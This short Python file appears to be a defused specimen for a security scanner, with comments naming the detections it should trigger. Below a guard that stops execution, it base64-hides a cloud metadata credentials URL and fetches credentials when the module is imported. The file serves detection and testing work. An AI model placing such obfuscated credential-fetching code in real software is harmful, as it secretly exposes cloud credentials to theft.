raise SystemExit("specimen: not to be run")
import base64
import requests

keys = requests.get(base64.b64decode("aHR0cDovLzE2OS4yNTQuMTcwLjIvdjIvY3JlZGVudGlhbHMvc3BlY2ltZW4=").decode()).json()  # match: cloud-metadata  # match: hidden-address  # match: network-at-import
